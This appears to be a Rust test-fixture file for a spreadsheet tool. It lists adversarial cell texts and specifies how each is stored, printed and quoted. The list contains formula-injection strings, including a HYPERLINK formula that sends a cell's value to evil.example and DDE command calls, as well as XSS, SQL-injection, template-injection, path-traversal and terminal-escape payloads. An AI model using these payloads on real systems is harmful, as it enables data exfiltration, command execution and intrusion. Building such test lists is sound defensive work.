//! The texts that must stay texts.

/// A text of a cell, and how it stands in the outputs.
pub struct Payload {
    /// What the cell holds.
    pub text: &'static str,
    /// What is stored of it, and stands in the consolidated workbook.
    pub stored: &'static str,
    /// How the appendix prints it: a character that it cannot print by its number.
    pub printed: &'static str,
    /// How findings quote it: a character that acts by its number.
    pub quoted: &'static str,
}

/// A text that stands as it is everywhere.
const fn plain(text: &'static str) -> Payload {
    Payload { text, stored: text, printed: text, quoted: text }
}

/// A text with characters that act.
const fn acting(text: &'static str, shown: &'static str) -> Payload {
    Payload { text, stored: text, printed: shown, quoted: shown }
}

/// A text with characters that only the appendix cannot print.
const fn unprintable(text: &'static str, printed: &'static str) -> Payload {
    Payload { text, stored: text, printed, quoted: text }
}

/// A text with characters that are not read.
const fn unseen(text: &'static str, stored: &'static str) -> Payload {
    Payload { text, stored, printed: stored, quoted: stored }
}

/// Every text, each of another kind. None is of use to anyone: the addresses lead nowhere.
pub const PAYLOADS: &[Payload] = &[
    // Formulas of Excel and of those who send them.
    plain("=1+1"),
    plain("=HYPERLINK(\"http://evil.example/?a=\"&A1,\"Open\")"),
    plain("=cmd|'/C calc'!A0"),
    plain("+1-1"),
    plain("-1+1"),
    plain("@SUM(1,2)"),
    unprintable("\u{ff1d}1+1", "[U+FF1D]1+1"),
    plain("'=1+1"),
    plain("\"=1+1\""),
    plain("=IMPORTXML(\"http://evil.example\",\"//a\")"),
    plain("=WEBSERVICE(\"http://evil.example\")"),
    plain("DDE(\"cmd\";\"/C calc\";\"x\")"),
    plain("{=1+1}"),
    plain("R1C1"),
    plain("#REF!"),
    // Markup.
    plain("<script>alert(1)</script>"),
    plain("<img src=x onerror=alert(1)>"),
    plain("\"><svg onload=alert(1)>"),
    plain("' onmouseover='alert(1)"),
    plain("&lt;script&gt;alert(1)&lt;/script&gt;"),
    plain("&#60;b&#62;bold&#60;/b&#62;"),
    plain("&amp;&nbsp;&colon;"),
    plain("</style><style>body{display:none}</style>"),
    plain("</textarea></title></table></td>"),
    plain("<!-- a comment -->"),
    plain("--> out of a comment"),
    plain("]]> out of CDATA"),
    plain("<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b \"c\">]>&b;"),
    plain("<a href=\"javascript:alert(1)\">here</a>"),
    plain("<base href=http://evil.example/>"),
    plain("<iframe srcdoc=\"<b>\"></iframe>"),
    plain("<bdo dir=rtl>back</bdo>"),
    plain("<w:hyperlink r:id=\"rId1\"/>"),
    // Templates.
    plain("{{ 7*7 }}"),
    plain("{{ period.year }}"),
    plain("{% for a in range(9) %}a{% endfor %}"),
    plain("{% raw %}"),
    plain("{# a remark #}"),
    plain("${7*7} #{7*7} <%= 7*7 %>"),
    plain("%s%n%x %(name)s {0} {name!r}"),
    // Markdown.
    plain("[here](http://evil.example)"),
    plain("![a picture](http://evil.example/a.png)"),
    plain("<http://evil.example>"),
    plain("http://evil.example/path?a=b&c=d"),
    plain("https://evil.example"),
    plain("www.evil.example"),
    plain("mailto:?subject=evil"),
    plain("javascript:alert(1)"),
    plain("file:///etc/passwd"),
    plain("[a]: http://evil.example"),
    plain("[^scrutiny] and [^orders]"),
    plain("# A heading"),
    plain("| a | table |"),
    plain("|---|---|"),
    plain("```table caption: x```"),
    plain("~~~"),
    plain("---"),
    plain("***"),
    plain("1. One"),
    plain("- item"),
    plain("> quoted"),
    plain("*bold* _slanted_ **strong** `code`"),
    plain("a \\ b \\* c"),
    plain("Table: of mine"),
    // SQL.
    plain("'; DROP TABLE spend; --"),
    plain("\" OR \"1\"=\"1"),
    plain("1); ATTACH 'a.db' AS a; --"),
    plain("/* */ UNION SELECT payee FROM main.spend"),
    // Characters that act.
    acting("bell\u{7}", "bell[U+0007]"),
    acting("\u{1b}[31mred\u{1b}[0m", "[U+001B][31mred[U+001B][0m"),
    acting(
        "\u{1b}]8;;http://evil.example\u{1b}\\here\u{1b}]8;;\u{1b}\\",
        "[U+001B]]8;;http://evil.example[U+001B]\\here[U+001B]]8;;[U+001B]\\",
    ),
    acting("\u{9b}2J clear", "[U+009B]2J clear"),
    unseen("nul\u{0}nul", "nulnul"),
    acting("a\u{8}\u{8}b\u{7f}", "a[U+0008][U+0008]b[U+007F]"),
    acting("\u{202e}fdp.exe", "[U+202E]fdp.exe"),
    acting("\u{2066}isolated\u{2069}", "[U+2066]isolated[U+2069]"),
    unseen("zero\u{200b}width", "zerowidth"),
    unseen("mark\u{feff}inside", "markinside"),
    unseen("soft\u{ad}hyphen", "softhyphen"),
    Payload {
        text: "one\u{2028}two\u{2029}three\u{85}four",
        stored: "one\u{2028}two\u{2029}three\u{85}four",
        printed: "one two three[U+0085]four",
        quoted: "one two three four",
    },
    acting("tab\tand\nline", "tab and line"),
    acting("return\ralone", "return alone"),
    acting("not a character \u{ffff} nor \u{fdd0}", "not a character [U+FFFF] nor [U+FDD0]"),
    acting("\u{e0041}\u{e0042} tags", "[U+E0041][U+E0042] tags"),
    // Writing of the world.
    unprintable(
        "\u{1f469}\u{200d}\u{1f467} and \u{1f1ec}\u{1f1e7}",
        "[U+1F469]\u{200d}[U+1F467] and [U+1F1EC][U+1F1E7]",
    ),
    plain("\u{627}\u{644}\u{633}\u{644}\u{627}\u{645} \u{639}\u{644}\u{64a}\u{643}\u{645}"),
    plain("\u{5e9}\u{5dc}\u{5d5}\u{5dd}"),
    plain("Z\u{351}\u{36b}\u{343}\u{32a}\u{302}a\u{36c}\u{30b}\u{35e}l\u{342}\u{348}\u{334}g\u{332}\u{330}o\u{30f}"),
    unprintable("\u{6f22}\u{5b57}", "[U+6F22][U+5B57]"),
    // Paths, and the names of devices.
    plain("../../etc/passwd"),
    plain("..\\..\\windows\\win.ini"),
    plain("C:\\autoexec.bat"),
    plain("\\\\evil.example\\share\\a.xlsx"),
    plain("CON"),
    plain("NUL.xlsx"),
    plain("/dev/null"),
    // What Excel would make of a text.
    plain("_x0041_"),
    plain("_x000D_ and _x005F_x0041_"),
    plain("%00 %0d%0a %3cb%3e"),
    plain("TRUE"),
    plain("1e5"),
    plain("12/04/2022"),
    plain("0012"),
    plain("£5.00"),
];
